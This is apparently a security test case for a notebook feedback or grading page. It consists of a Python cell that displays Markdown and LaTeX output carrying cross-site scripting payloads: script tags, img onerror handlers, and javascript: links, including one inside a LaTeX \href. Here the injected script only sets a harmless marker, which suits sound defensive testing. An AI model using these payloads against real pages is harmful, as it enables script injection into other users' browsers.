# id: xss_output_markdown
# kind: attack
# category: feedback-page
# form: cell
# begins with: part
# goal: Markdown and LaTeX with markup as a cell's output
# success looks like: a script of the student runs in a page
# required score: 2 of 10
from IPython.display import Latex, Markdown, display
ran = "document.documentElement.dataset.ran = 1"
display(Markdown(f'<img src="x" onerror="{ran}"> [x](javascript:{ran}) <script>{ran}</script>'))
display(Latex(f"$x$<script>{ran}</script>"))
display(Latex(rf"$\href{{javascript:{ran}}}{{x}}$ </div><img src=x onerror='{ran}'>"))
